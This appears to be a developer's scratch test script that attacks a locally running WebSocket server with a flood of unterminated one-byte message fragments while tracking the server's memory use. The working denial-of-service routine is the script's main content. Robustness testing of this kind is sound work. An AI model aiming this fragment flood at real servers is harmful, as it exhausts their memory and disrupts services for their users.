// scratch (not committed): authenticated attacks against the running CLI server
import { readFileSync } from 'node:fs';
import { TestClient, newDevice } from './support/test-client.js';
const cert = readFileSync('/var/tmp/attack-data/tls/self-signed.crt', 'utf8');
const target = { url: 'wss://127.0.0.1:18443/v1/ws', tls: { cert } };
const PID = Number(process.env.SPID);
const rss = () => Math.round(Number(/VmRSS:\s+(\d+)/.exec(readFileSync(`/proc/${PID}/status`, 'utf8'))![1]) / 1024);
const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));
const mode = process.argv[2];
const code = process.argv[3]!;
const c = await TestClient.connect(target, { pin: false });
const d = newDevice();
const r = await c.register(d, code);
console.log('register', r.body.case);
if (mode === 'frag') {
  // raw access to the socket under ws: send a fragmented message of 1-byte fragments, answering pings
  const sock = (c.ws as unknown as { _socket: import('node:tls').TLSSocket })._socket;
  const { randomBytes } = await import('node:crypto');
  const fr = (op: number, fin: boolean, len: number) => { const m = randomBytes(4); return Buffer.concat([Buffer.from([(fin ? 0x80 : 0) | op, 0x80 | len]), m, Buffer.alloc(len)]); };
  sock.write(fr(2, false, 1));
  const batch = Buffer.concat(Array.from({ length: 10000 }, () => fr(0, false, 1)));
  const t0 = Date.now(); let n = 0; let closed = false; c.closed.then((x) => { closed = true; console.log('closed', x); });
  console.log('rss before', rss());
  while (!closed && n < 210) { n++; if (!sock.write(batch)) await new Promise((r) => { sock.once('drain', r); setTimeout(r, 200); }); if (n % 30 === 0) console.log(n * 10000, 'fragments rss', rss(), 'ms', Date.now() - t0); }
  await sleep(3000); console.log('fragments', n * 10000, 'rss', rss(), 'closed', closed);
}
process.exit(0);
